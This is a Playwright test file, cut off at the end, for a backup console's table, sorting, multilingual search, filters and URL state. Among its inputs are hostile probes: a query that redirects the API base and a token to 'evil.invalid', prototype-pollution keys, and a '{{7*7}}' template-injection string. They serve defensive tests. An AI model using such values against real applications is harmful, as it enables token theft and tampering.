// "Backups" (PRODUCT.md, 2 and 3): the table, search, filters, sorting, the URL, export, the empty states, odd data.
import { readFile } from 'node:fs/promises';
import type { Locator, Page } from '@playwright/test';
import { expect, signIn, test } from './fixtures.ts';
import {
  backup, button, cell, chooseServer, column, dialog, header, heading, ids, LIST_PATH, logged, LOST, messages, offered, row, rows, search, serverBox, statusLine, table, withoutPolls,
} from './console.ts';

const DAY = 24 * 3600 * 1000;
const fromNow = (milliseconds: number) => new Date(Date.now() + milliseconds).toISOString();
const choice = (page: Page, name: string) => page.getByRole('combobox', { name, exact: true });
const wordsOf = (select: Locator) => select.getByRole('option').allInnerTexts();
const ISTANBUL = { id: 777, name: 'İstanbul-ışık' };

test.beforeEach(({ emulator }) => withoutPolls(emulator));

test.describe('the table', () => {
  test('shows the three documented rows, newest first', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    expect((await table(page).getByRole('columnheader').allInnerTexts()).map((text) => text.trim()).filter(Boolean))
      .toEqual(['ID', 'Server', 'Type', 'Status', 'Size', 'Created', 'Expires', 'Description', 'Actions']);
    expect(await ids(page)).toEqual([502, 501, 499]);
    for (const server of await column(page, 'Server')) expect(server).toMatch(/^web-server-01\s*12345$/);
    expect(await column(page, 'Type')).toEqual(['Manual', 'Automatic', 'Manual']);
    // The documentation's backup has been in progress for a long time by now.
    expect(await column(page, 'Status')).toEqual([expect.stringMatching(/^In progress\s+possibly stuck$/), 'Completed', 'Completed']);
    expect(await column(page, 'Description')).toEqual(['Pre-deployment backup', 'Automatic daily backup', 'Pre-update backup']);
    const [size, ...sizes] = await column(page, 'Size');
    expect(size).not.toMatch(/\d/);
    expect(sizes).toEqual(['4.42 GB', '4.35 GB']);
    await expect((await cell(page, 501, 'Size')).getByTitle(/4,523\sMB/)).toBeVisible();
    await expect(table(page)).toHaveAttribute('aria-rowcount', '4');
    await expect(page.getByRole('checkbox', { name: 'Select all shown backups', exact: true })).toBeVisible();
    for (const id of [501, 502, 499]) {
      await expect(button(row(page, id), `Restore backup ${id}`)).toBeVisible();
      await expect(button(row(page, id), `Delete backup ${id}`)).toBeVisible();
    }
  });

  test('a time is relative, with the exact one in the browser\'s zone at hand', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { created_at: fromNow(-5 * 3600_000 - 60_000), expires_at: fromNow(10 * DAY + 60_000) })]);
    await signIn(page, emulator.tokens.full);
    await expect(await cell(page, 600, 'Created')).toHaveText(/5 hours ago/);
    await expect(await cell(page, 600, 'Expires')).toHaveText(/in 10 days/);
    const time = (await cell(page, 501, 'Created')).getByRole('time');
    await expect(time).toHaveAttribute('datetime', '2025-01-16T03:00:00Z');
    await expect(time).toHaveAttribute('title', /16 Jan 2025, 04:00 (UTC|GMT)\+1/);
    await expect(time).toHaveText(/ago$/);
  });

  test('an expiry that cannot be read is not never', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { expires_at: '2025-02-30T03:00:00Z' }), backup(601)]);
    await signIn(page, emulator.tokens.full);
    await expect(await cell(page, 600, 'Expires')).toHaveText('Expires–');
    await expect(await cell(page, 601, 'Expires')).toHaveText('ExpiresNever');
    await button(page, 'Delete backup 600').click();
    await expect(dialog(page, 'Delete backup 600')).toContainText('Expires' + 'Unknown: the API gave no readable time');
  });

  test('what cannot be restored for want of a status is not said to have one', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { status: null })]);
    await signIn(page, emulator.tokens.full);
    await expect(button(page, 'Restore backup 600')).toHaveAccessibleDescription('Only completed backups can be restored; the API gives no status.');
  });

  test('what expires within three days stands out in words', async ({ page, emulator }) => {
    await emulator.addBackups([
      backup(601, { expires_at: fromNow(3 * DAY - 60_000) }), backup(602, { expires_at: fromNow(3 * DAY + 60_000) }), backup(603, { expires_at: null }),
    ]);
    await signIn(page, emulator.tokens.full);
    await expect(await cell(page, 601, 'Expires')).toContainText('expires soon');
    await expect(await cell(page, 602, 'Expires')).not.toContainText('expires soon');
    await expect(await cell(page, 603, 'Expires')).not.toContainText('expires soon');
  });

  test('a status is a word and an icon; unknown words are shown as they are', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { status: 'archived', backup_type: 'replica' }), backup(601, { status: 'failed', size_mb: null })]);
    await signIn(page, emulator.tokens.full);
    await expect(await cell(page, 600, 'Status')).toHaveText('archived');
    await expect(await cell(page, 600, 'Type')).toContainText('replica');
    await expect(await cell(page, 601, 'Status')).toHaveText('Failed');
    for (const id of [501, 502, 600, 601]) await expect((await cell(page, id, 'Status')).locator('svg').first()).toBeVisible();
  });

  test('an action that is not possible stays, with the reason', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { status: 'archived' }), backup(601, { status: 'failed' })]);
    await signIn(page, emulator.tokens.full);
    for (const [id, reason] of [[502, /in progress/], [600, /archived/], [601, /failed/]] as const) {
      const restore = button(page, `Restore backup ${id}`);
      await expect(restore).toHaveAttribute('aria-disabled', 'true');
      await expect(restore).toHaveAccessibleDescription(reason);
      // Not only on hover: a finger and a keyboard are told when they press.
      const told = messages(page).getByRole('listitem').filter({ hasText: `Restore backup ${id}: ` }).filter({ hasText: reason });
      await restore.click({ force: true });
      await expect(told).toHaveCount(1);
      await button(messages(page), 'Dismiss').click();
      await expect(told).toHaveCount(0);
      await restore.press('Enter');
      await expect(told).toHaveCount(1);
      await expect(restore).toBeFocused();
      await expect(page.getByRole('dialog')).toBeHidden();
      await expect(button(page, `Delete backup ${id}`)).not.toHaveAttribute('aria-disabled', 'true');
    }
    await expect(button(page, 'Restore backup 501')).not.toHaveAttribute('aria-disabled', 'true');
  });

  test('a server is chosen by a whole click: not by a press that is taken back, nor by the other button', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await serverBox(page).click();
    const option = offered(page).first();
    await option.click({ button: 'right' });
    await expect(page).not.toHaveURL(/server_id/);
    await option.hover();
    await page.mouse.down();
    await page.mouse.move(5, 5);
    await page.mouse.up();
    await expect(page).not.toHaveURL(/server_id/);
    await option.click();
    await expect(page).toHaveURL(/server_id/);
    await expect(serverBox(page)).toBeFocused();
  });

  test('rows are selected one by one and all at once', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    const all = page.getByRole('checkbox', { name: 'Select all shown backups', exact: true });
    const one = page.getByRole('checkbox', { name: 'Select backup 501', exact: true });
    await one.check();
    await expect(page.getByText('1 selected')).toBeVisible();
    await expect(all).not.toBeChecked();
    await all.check();
    await expect(page.getByText('3 selected')).toBeVisible();
    await one.uncheck();
    await expect(all).not.toBeChecked();
    await expect(page.getByText('2 selected')).toBeVisible();
    await all.check();
    await all.uncheck();
    await expect(page.getByText(/\d selected/)).toBeHidden();
  });

  test('what is selected and hidden by a filter is mentioned, also before it is deleted', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    const all = page.getByRole('checkbox', { name: 'Select all shown backups', exact: true });
    const mixed = () => all.evaluate((box: HTMLInputElement) => [box.checked, box.indeterminate]);
    const hidden = page.getByText('2 of them hidden by the filters');
    await all.check();
    expect(await mixed()).toEqual([true, false]);
    await expect(hidden).toBeHidden();
    await search(page).fill('501');
    await expect(page.getByText('3 selected')).toBeVisible();
    await expect(hidden).toBeVisible();
    expect(await mixed()).toEqual([true, false]);
    await button(page, 'Delete selected').click();
    await expect(dialog(page, 'Delete 3 backups')).toContainText('2 of them hidden by the filters');
    await button(dialog(page, 'Delete 3 backups'), 'Keep backups').click();
    await all.uncheck();
    await expect(page.getByText('2 selected')).toBeVisible();
    expect(await mixed()).toEqual([false, false]);
    await search(page).fill('');
    await expect(hidden).toBeHidden();
    await expect.poll(mixed).toEqual([false, true]);
    await all.click();
    await expect(page.getByText('3 selected')).toBeVisible();
    expect(await mixed()).toEqual([true, false]);
  });

  test('a new backup that the filters hide: said with its message, as long as they do', async ({ page, emulator }) => {
    await withoutPolls(emulator);
    await signIn(page, emulator.tokens.full, './?backup_type=automatic&server_id=12345');
    await button(page, 'Create backup').click();
    await button(dialog(page, 'Create backup'), 'Create backup').click();
    const message = messages(page).getByRole('listitem').filter({ hasText: 'Backup 503 of web-server-01 has started' });
    await expect(message).toContainText('The filters hide it.');
    await page.getByRole('combobox', { name: 'Type', exact: true }).selectOption('manual');
    await expect(row(page, 503)).toBeVisible();
    await expect(message).not.toContainText('The filters hide it.');
  });

  test('what is selected outlives filters and a refresh', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    for (const id of [499, 501]) await page.getByRole('checkbox', { name: `Select backup ${id}`, exact: true }).check();
    await search(page).fill('501');
    await expect.poll(() => ids(page)).toEqual([501]);
    await expect(page.getByText('2 selected')).toBeVisible();
    await emulator.changeBackup(499, { description: 'Changed' });
    await button(page, 'Refresh').click();
    await search(page).fill('');
    await expect(row(page, 499)).toContainText('Changed');
    for (const id of [499, 501]) await expect(page.getByRole('checkbox', { name: `Select backup ${id}`, exact: true })).toBeChecked();
  });

  test('a backup that was deleted elsewhere is no longer selected', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await page.getByRole('checkbox', { name: 'Select all shown backups', exact: true }).check();
    await expect(page.getByText('3 selected')).toBeVisible();
    await emulator.removeBackup(499);
    await button(page, 'Refresh').click();
    await expect(page.getByText('2 selected')).toBeVisible();
    await button(page, 'Delete selected').click();
    await expect(dialog(page, 'Delete 2 backups')).toBeVisible();
    await button(dialog(page, 'Delete 2 backups'), 'Keep backups').click();
    for (const id of [501, 502]) await emulator.removeBackup(id);
    await button(page, 'Refresh').click();
    await expect(heading(page, 'No backups yet')).toBeVisible();
    await expect(button(page, 'Delete selected')).toBeHidden();
  });

  test('"Refresh" reads the whole list again, and moves neither focus nor selection', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await page.getByRole('checkbox', { name: 'Select backup 501', exact: true }).check();
    await emulator.addBackups([backup(600, { server: { id: 12346, name: 'db-server-02' } })]);
    await button(page, 'Refresh').focus();
    await page.keyboard.press('Enter');
    await expect(row(page, 600)).toBeVisible();
    await expect(button(page, 'Refresh')).toBeFocused();
    await expect(page.getByRole('checkbox', { name: 'Select backup 501', exact: true })).toBeChecked();
  });

  test('what is pressed is what was seen: the place of a row that goes meanwhile is not used for another', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?sort=id');
    await button(page, 'Delete backup 499').hover();
    await page.mouse.down();
    await emulator.removeBackup(499);
    await emulator.addBackups([backup(400), backup(401), backup(402)]);
    await page.keyboard.press('r');
    await expect(row(page, 402)).toBeVisible();
    await expect(row(page, 499)).toHaveCount(0);
    await page.mouse.up();
    await page.mouse.move(0, 0);
    expect(await ids(page)).toEqual([400, 401, 402, 501, 502]);
    await expect(page.getByRole('dialog')).toHaveCount(0);
  });

  test('rows that change places change everything that is in them', async ({ page, emulator }) => {
    const others = [
      backup(10, { server: { id: 9, name: 'other' }, backup_type: 'automatic', status: 'failed', size_mb: null, created_at: null, expires_at: fromNow(DAY), description: 'first' }),
      backup(11, { status: 'in_progress', size_mb: 2048, created_at: fromNow(-60_000), description: 'second' }),
    ];
    await emulator.addBackups(others);
    await signIn(page, emulator.tokens.full, './?q=first');
    await page.getByRole('checkbox', { name: 'Select backup 10', exact: true }).check();
    await page.mouse.move(0, 0);
    // What an attribute says counts, not in which order the attributes came.
    const whole = (id: number) => row(page, id).evaluate((element) => [element, ...element.querySelectorAll('*')]
      .map((part) => [part.tagName, ...[...part.attributes].map(({ name, value }) => `${name}=${value}`).sort(), part.children.length ? '' : `>${part.textContent}<`].join(' ')));
    const first = await whole(10);
    await search(page).fill('second');
    await expect(row(page, 11)).toBeVisible();
    await expect(page.getByRole('checkbox', { name: 'Select backup 11', exact: true })).not.toBeChecked();
    await expect(button(row(page, 11), 'Restore backup 11')).toHaveAttribute('aria-disabled', 'true');
    const second = await whole(11);
    for (const word of [/first/, /other/, /Failed/, /(>|backup )10\b/, /soon/]) expect(second.filter((part) => word.test(part))).toEqual([]);
    await search(page).fill('first');
    await expect(page.getByRole('checkbox', { name: 'Select backup 10', exact: true })).toBeChecked();
    expect(await whole(10)).toEqual(first);
  });

  test('the status line counts, adds up, and says how old the data is', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await expect(statusLine(page)).toContainText('Showing 3 of 3 backups');
    await expect(statusLine(page)).toContainText('8.76 GB');
    await expect(page.getByText(/Updated (just now|\d+ seconds? ago)/)).toBeVisible();
    await search(page).fill('499');
    await expect(statusLine(page)).toContainText('Showing 1 of 3 backups');
    await expect(statusLine(page)).toContainText('4.35 GB');
  });
});

test.describe('sorting', () => {
  const ROWS = [
    backup(600, { server: { id: 12346, name: 'db-server-02' }, backup_type: 'automatic', status: 'failed', size_mb: null, created_at: '2025-01-15T00:00:00Z', expires_at: '2025-01-20T00:00:00Z' }),
    backup(601, { created_at: null, size_mb: 20, description: 'Zero hour' }),
  ];
  const UPWARDS: Record<string, number[][]> = {
    // Groups of equals, upwards; what is empty comes last in both directions.
    ID: [[499], [501], [502], [600], [601]],
    Server: [[600], [499, 501, 502, 601]],
    Type: [[501, 600], [499, 502, 601]],
    Status: [[499, 501, 601], [600], [502]],
    Size: [[601], [499], [501]],
    Created: [[499], [600], [501], [502]],
    Expires: [[600], [501]],
    Description: [[501], [502], [499], [601]],
  };
  const ALL = [499, 501, 502, 600, 601];

  for (const [name, groups] of Object.entries(UPWARDS)) {
    test(`by ${name}, both ways, empty values last`, async ({ page, emulator }) => {
      await emulator.addBackups(ROWS);
      await signIn(page, emulator.tokens.full);
      const seen: string[] = [];
      for (let press = 0; press < 2; press += 1) {
        await button(table(page), name).click();
        const direction = (await header(page, name).getAttribute('aria-sort')) ?? '';
        seen.push(direction);
        const expected = direction === 'ascending' ? groups : [...groups].reverse();
        const empty = ALL.filter((id) => !groups.flat().includes(id));
        const shown = await ids(page);
        let from = 0;
        for (const group of [...expected, empty]) {
          expect(shown.slice(from, from + group.length).sort(), `${name} ${direction}: ${shown}`).toEqual([...group].sort());
          from += group.length;
        }
      }
      expect(seen.sort()).toEqual(['ascending', 'descending']);
    });
  }

  test('only the sorted column carries aria-sort, and the sort is in the URL', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await expect(header(page, 'Created')).toHaveAttribute('aria-sort', 'descending');
    await button(table(page), 'Size').press('Enter');
    await expect(table(page).locator('[aria-sort]')).toHaveCount(1);
    await expect(header(page, 'Size')).toHaveAttribute('aria-sort', /ascending|descending/);
    expect(new URL(page.url()).searchParams.get('sort')).toMatch(/^-?size_mb$/);
    await expect(button(table(page), 'Size')).toBeFocused();
  });

  test('servers are in the order in which people count, in the table and in lists', async ({ page, emulator }) => {
    for (const id of [501, 502, 499]) await emulator.removeBackup(id);
    await emulator.addBackups(['web-10', 'Web-2', 'web-1', 'WEB-11', 'İzmir-10', 'izmir-9'].map((name, index) => backup(600 + index, { server: { id: 12400 + index, name } })));
    await signIn(page, emulator.tokens.full, './?sort=server');
    await expect(table(page)).toBeVisible();
    const names = ['izmir-9', 'İzmir-10', 'web-1', 'Web-2', 'web-10', 'WEB-11'];
    expect((await column(page, 'Server')).map((text) => text.split(/\s/)[0])).toEqual(names);
    await serverBox(page).fill('web');
    await expect(offered(page)).toHaveText([/^web-1(?!\d)/, /^Web-2/, /^web-10/, /^WEB-11/, /^web-server-01/]);
  });

  test('sorting asks the API nothing', async ({ page, emulator }) => {
    await withoutPolls(emulator);
    await signIn(page, emulator.tokens.full);
    for (const endpoint of ['servers', 'account'] as const) await expect.poll(async () => (await emulator.requests(endpoint)).length).toBe(1);
    const asked = async () => (await emulator.requests()).filter((request) => request.kind !== 'page').length;
    const before = await asked();
    await button(table(page), 'ID').click();
    await search(page).fill('50');
    await expect.poll(() => ids(page)).toEqual([501, 502]);
    expect(await asked()).toBe(before);
  });
});

test.describe('search', () => {
  const ROWS = [
    backup(600, { server: { id: 12346, name: 'db-server-02' }, description: 'Café Köln' }),
    backup(601, { server: ISTANBUL, description: 'Yükseltmeden önce' }),
    backup(602, { server: { id: 12371, name: 'Երևան-պահուստ' }, description: 'faʻasao' }),
    backup(603, { server: { id: 12372, name: 'خادم-أحمد' }, description: 'نُسْخَة إحتياطيّة رقم ٧٧٧٧' }),
  ];
  const FOUND: Record<string, number[]> = {
    '501': [501], 'db-server': [600], '12346': [600], 'pre-update': [499], 'PRE-UPDATE': [499], 'web pre': [502, 499], 'backup 499 web': [499], '  501  ': [501],
    'cafe koln': [600], 'CAFÉ': [600], 'Köln': [600], 'yukseltmeden ONCE': [601],
    'istanbul': [601], 'ISTANBUL': [601], 'İSTANBUL': [601], 'ıstanbul': [601], 'isik': [601], 'IŞIK': [601], 'ışık': [601], 'İŞİK': [601],
    'երևան': [602], 'ԵՐԵՎԱՆ': [602], 'երեւան': [602], 'ԵՐԵՒԱՆ': [602], 'Պահուստ': [602], 'fa\'asao': [602], 'FA‘ASAO': [602],
    'خادم-احمد': [603], 'نسخه احتياطية': [603], 'نسخة': [603], 'خـادم': [603], 'رقم 7777': [603], '۷۷۷۷': [603], '\u200fخادم\u200e': [603],
  };
  test('finds ids, servers, their ids and descriptions, by all words, whatever the case and the accents', async ({ page, emulator }) => {
    await emulator.addBackups(ROWS);
    await signIn(page, emulator.tokens.full);
    for (const [words, found] of Object.entries(FOUND)) {
      await search(page).fill(words);
      await expect.poll(() => ids(page), words).toEqual(found);
    }
  });

  test('for what is not there, and nothing typed shows everything again', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await search(page).pressSequentially('web 501 nothing');
    await expect(heading(page, 'Nothing matches')).toBeVisible();
    await expect(search(page)).toBeFocused();
    await expect(search(page)).toHaveValue('web 501 nothing');
    await search(page).fill('');
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
  });

  test('text that looks like a pattern is only text', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { description: '100% (a+b)* [x] \\ {{7*7}}' })]);
    await signIn(page, emulator.tokens.full);
    for (const words of ['(a+b)*', '[x]', '\\', '{{7*7}}', '100%']) {
      await search(page).fill(words);
      await expect.poll(() => ids(page), words).toEqual([600]);
    }
    await search(page).fill('.*');
    await expect(heading(page, 'Nothing matches')).toBeVisible();
  });
});

test.describe('filters', () => {
  const ROWS = [
    backup(600, { server: { id: 12346, name: 'db-server-02' }, backup_type: 'replica', status: 'archived', created_at: '2025-01-12T00:00:00Z' }),
    backup(601, { server: ISTANBUL, status: 'failed', created_at: '2025-01-11T22:30:00Z' }),
  ];
  test.beforeEach(async ({ page, emulator }) => {
    await emulator.addBackups(ROWS);
    await signIn(page, emulator.tokens.full);
    await expect.poll(async () => (await emulator.requests('servers')).length).toBe(1);
  });

  test('Server: typing narrows, the arrows and Enter choose', async ({ page }) => {
    const server = serverBox(page);
    await server.pressSequentially('server');
    await expect(offered(page)).toHaveText([/db-server-02/, /web-server-01/]);
    await expect(server).toHaveAttribute('aria-expanded', 'true');
    await server.press('ArrowDown');
    const active = await server.getAttribute('aria-activedescendant');
    expect(active).toBeTruthy();
    const name = (await page.locator(`[id="${active}"]`).innerText()).split(/\s/)[0] ?? '';
    await server.press('Enter');
    await expect(server).toHaveValue(name);
    await expect(server).toHaveAttribute('aria-expanded', 'false');
    await expect(server).toBeFocused();
    await expect(offered(page, name)).toBeHidden();
    for (const shown of await column(page, 'Server')) expect(shown).toContain(name);
  });

  test('Server: Enter takes the first that is offered', async ({ page }) => {
    await serverBox(page).pressSequentially('db');
    await serverBox(page).press('Enter');
    await expect(serverBox(page)).toHaveValue('db-server-02');
    await expect.poll(() => ids(page)).toEqual([600]);
    expect(new URL(page.url()).searchParams.get('server_id')).toBe('12346');
  });

  test('Server: a click chooses, and emptying the field shows all', async ({ page }) => {
    await serverBox(page).click();
    await offered(page, 'web-server-01').click();
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
    await expect(serverBox(page)).toHaveValue('web-server-01');
    await serverBox(page).fill('');
    await expect.poll(async () => (await ids(page)).length).toBe(5);
    expect(new URL(page.url()).searchParams.has('server_id')).toBe(false);
  });

  test('Server: is found by its id, and without accents', async ({ page }) => {
    await serverBox(page).fill('777');
    await expect(offered(page)).toHaveCount(1);
    await serverBox(page).fill('ISTANBUL isik');
    await expect(offered(page)).toHaveText([/İstanbul-ışık/]);
    await serverBox(page).press('Enter');
    await expect.poll(() => ids(page)).toEqual([601]);
  });

  test('Server: Escape closes the list and chooses nothing', async ({ page }) => {
    await serverBox(page).pressSequentially('db');
    await expect(offered(page, 'db-server-02')).toBeVisible();
    await serverBox(page).press('Escape');
    await expect(page.getByRole('listbox')).toBeHidden();
    expect((await ids(page)).length).toBe(5);
  });

  test('Server: what matches nothing is said, and Enter then does nothing', async ({ page }) => {
    await serverBox(page).pressSequentially('no such server');
    await expect(page.getByText('No server matches')).toBeVisible();
    await serverBox(page).press('Enter');
    expect((await ids(page)).length).toBe(5);
    await search(page).focus();
    await expect(page.getByText('No server matches')).toBeHidden();
    await expect(serverBox(page)).toHaveValue('');
  });

  test('Type and Status offer every value in the data', async ({ page }) => {
    expect((await wordsOf(choice(page, 'Type'))).sort()).toEqual(['All', 'Automatic', 'Manual', 'replica']);
    expect((await wordsOf(choice(page, 'Status'))).sort()).toEqual(['All', 'Completed', 'Failed', 'In progress', 'archived']);
    await choice(page, 'Status').selectOption('archived');
    await expect.poll(() => ids(page)).toEqual([600]);
    await choice(page, 'Status').selectOption('All');
    await choice(page, 'Type').selectOption('replica');
    await expect.poll(() => ids(page)).toEqual([600]);
    await choice(page, 'Type').selectOption('Automatic');
    await expect.poll(() => ids(page)).toEqual([501]);
  });

  test('a status that comes with a refresh is offered', async ({ page, emulator }) => {
    await emulator.changeBackup(502, { status: 'verifying' });
    await button(page, 'Refresh').click();
    await expect(await cell(page, 502, 'Status')).toHaveText('verifying');
    await choice(page, 'Status').selectOption('verifying');
    await expect.poll(() => ids(page)).toEqual([502]);
  });

  test('dates are days of the browser\'s zone, both included', async ({ page }) => {
    // 22:30 UTC is half past eleven in the evening of the same day in Amsterdam; midnight UTC is the next day's first hour.
    await page.getByLabel('Created from', { exact: true }).fill('2025-01-12');
    await expect.poll(() => ids(page)).toEqual([502, 501, 499, 600]);
    await page.getByLabel('Created to', { exact: true }).fill('2025-01-14');
    await expect.poll(() => ids(page)).toEqual([499, 600]);
    await page.getByLabel('Created from', { exact: true }).fill('2025-01-11');
    await page.getByLabel('Created to', { exact: true }).fill('2025-01-11');
    await expect.poll(() => ids(page)).toEqual([601]);
    expect(new URL(page.url()).searchParams.get('created_from')).toBe('2025-01-11');
    expect(new URL(page.url()).searchParams.get('created_to')).toBe('2025-01-11');
  });

  test('all at once, and "Clear filters" keeps the sort', async ({ page }) => {
    await button(table(page), 'ID').click();
    await search(page).fill('backup');
    await serverBox(page).fill('web-server-01');
    await choice(page, 'Type').selectOption('Manual');
    await choice(page, 'Status').selectOption('Completed');
    await page.getByLabel('Created from', { exact: true }).fill('2025-01-14');
    await expect.poll(() => ids(page)).toEqual([499]);
    await button(page, 'Clear filters').click();
    await expect(button(page, 'Clear filters')).toBeDisabled();
    await expect.poll(() => ids(page)).toEqual([499, 501, 502, 600, 601]);
    await expect(search(page)).toHaveValue('');
    await expect(serverBox(page)).toHaveValue('');
    await expect(choice(page, 'Type')).toHaveValue('');
    await expect(choice(page, 'Status')).toHaveValue('');
    await expect(page.getByLabel('Created from', { exact: true })).toHaveValue('');
    expect(new URL(page.url()).search).toBe('?sort=id');
  });
});

test('Server with thousands: only a part is listed, typing finds the rest', async ({ page, emulator }) => {
  await emulator.reset({ seed: 'large=50000' });
  await withoutPolls(emulator);
  await signIn(page, emulator.tokens.full);
  await serverBox(page).click();
  await expect(page.getByText(/more: type to narrow/)).toBeVisible();
  expect(await offered(page).count()).toBeLessThanOrEqual(200);
  await serverBox(page).fill('1999');
  await expect(offered(page)).toHaveCount(1);
  await serverBox(page).press('Enter');
  await expect(statusLine(page)).toContainText('Showing 25 of 50,000 backups');
});

test.describe('the URL', () => {
  test('keeps search, filters and sort over a reload', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await search(page).fill('pre');
    await choice(page, 'Type').selectOption('Manual');
    await page.getByLabel('Created from', { exact: true }).fill('2025-01-01');
    await button(table(page), 'ID').click();
    const address = page.url();
    await page.reload();
    await expect.poll(() => ids(page)).toEqual([499, 502]);
    await expect(search(page)).toHaveValue('pre');
    await expect(choice(page, 'Type')).toHaveValue('manual');
    await expect(page.getByLabel('Created from', { exact: true })).toHaveValue('2025-01-01');
    await expect(header(page, 'ID')).toHaveAttribute('aria-sort', 'ascending');
    expect(page.url()).toBe(address);
    expect(new URL(address).pathname).toBe('/');
  });

  test('goes back and forward, the fields with it', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await choice(page, 'Type').selectOption('Manual');
    await expect.poll(() => ids(page)).toEqual([502, 499]);
    await choice(page, 'Status').selectOption('Completed');
    await expect.poll(() => ids(page)).toEqual([499]);
    await chooseServer(serverBox(page), 'web-server-01');
    await expect(page).toHaveURL(/server_id=12345/);
    await page.goBack();
    await expect(serverBox(page)).toHaveValue('');
    await page.goBack();
    await expect.poll(() => ids(page)).toEqual([502, 499]);
    await expect(choice(page, 'Status')).toHaveValue('');
    await page.goBack();
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
    await page.goForward();
    await expect.poll(() => ids(page)).toEqual([502, 499]);
    await expect(choice(page, 'Type')).toHaveValue('manual');
    expect((await emulator.requests('list')).length).toBe(1);
  });

  test('goes back while a list is open: the field shows what is in force', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await serverBox(page).fill('web-server-01');
    await expect(page).toHaveURL(/server_id=12345/);
    await page.goBack();
    await expect(page).not.toHaveURL(/server_id/);
    await expect(serverBox(page)).toHaveValue('');
  });

  test('that a colleague sent shows the same', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full,
      './?view=backups&q=backup&server_id=12345&backup_type=manual&status=completed&created_from=2025-01-14&created_to=2025-01-14&sort=-id');
    await expect.poll(() => ids(page)).toEqual([499]);
    await expect(search(page)).toHaveValue('backup');
    await expect(serverBox(page)).toHaveValue('web-server-01');
    await expect(choice(page, 'Status')).toHaveValue('completed');
    await expect(page.getByLabel('Created to', { exact: true })).toHaveValue('2025-01-14');
    await expect(header(page, 'ID')).toHaveAttribute('aria-sort', 'descending');
  });

  test('that asks for a server that is gone: the filter is seen, and can be cleared', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?server_id=99999');
    await expect(statusLine(page)).toContainText('Showing 0 of 3 backups');
    await expect(serverBox(page)).toHaveValue(/99999/);
    await button(page, 'Clear filters').click();
    await expect(serverBox(page)).toHaveValue('');
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
  });

  test('that says nonsense is ignored', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    for (const nonsense of [
      '?sort=evil', '?sort=--id', '?server_id=abc', '?server_id=-1', '?server_id=99999999999999999999', '?created_from=2025-99-99', '?created_to=yesterday', '?view=nope',
      '?backup_type=nonsense&status=Completed&created_from=0099-01-01&created_to=soon&server_id=x&sort=evil', '?status=failed%20', '?q=', '?%zz', '?q&&&==&sort', '?token=abc&api_base=https://evil.invalid/', '?__proto__=1&sort=__proto__', '?sort=constructor', '?q=%FF%FE',
    ]) {
      await page.goto(`./${nonsense}`);
      if (nonsense.includes('%FF')) await search(page).fill('');
      await expect(row(page, 502), nonsense).toBeVisible();
      expect(await ids(page), nonsense).toEqual([502, 501, 499]);
      for (const name of ['Type', 'Status']) await expect(choice(page, name), nonsense).toHaveValue('');
      await expect(button(page, 'Clear filters'), nonsense).toBeDisabled();
    }
    expect((await emulator.requests('list')).every((request) => request.query === '')).toBe(true);
  });

  test('a status that was in the data stays one to filter by, also when its last backup is gone', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { status: 'archived' })]);
    await signIn(page, emulator.tokens.full, './?status=archived');
    await expect.poll(() => ids(page)).toEqual([600]);
    await emulator.removeBackup(600);
    await button(page, 'Refresh').click();
    await expect(heading(page, 'Nothing matches')).toBeVisible();
    await expect(choice(page, 'Status')).toHaveValue('archived');
    await page.goto('./?status=expired');
    await expect(heading(page, 'Nothing matches')).toBeVisible();
  });

  test('a date that is typed is one place to come back to, and a year that is only begun filters nothing', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await choice(page, 'Type').selectOption('Manual');
    const from = page.getByLabel('Created from', { exact: true });
    const addresses: string[] = [];
    page.on('framenavigated', (frame) => addresses.push(new URL(frame.url()).search));
    await from.focus();
    await page.keyboard.type('01142025');
    await expect(from).toHaveValue('2025-01-14');
    await expect(page).toHaveURL(/\?backup_type=manual&created_from=2025-01-14$/);
    expect(addresses.filter((address) => /created_from=0/.test(address))).toEqual([]);
    await page.keyboard.press('Backspace');
    await page.keyboard.type('2024');
    await expect(page).toHaveURL(/created_from=2024-01-14$/);
    await page.goBack();
    await expect(page).toHaveURL(/\?backup_type=manual$/);
    await expect(from).toHaveValue('');
    // The same field again: a place of its own.
    await from.fill('2025-01-12');
    await from.blur();
    await from.fill('2025-01-13');
    await page.goBack();
    await expect(page).toHaveURL(/created_from=2025-01-12$/);
    await page.goBack();
    await expect(page).toHaveURL(/\?backup_type=manual$/);
  });

  test('a field that is left with a year that is only begun says what is in force', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?created_from=2025-01-12');
    const from = page.getByLabel('Created from', { exact: true });
    await from.fill('0020-01-12');
    await expect(page).toHaveURL(/created_from=2025-01-12$/);
    await from.blur();
    await expect(from).toHaveValue('2025-01-12');
  });

  test('the navigation names the view', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?q=501');
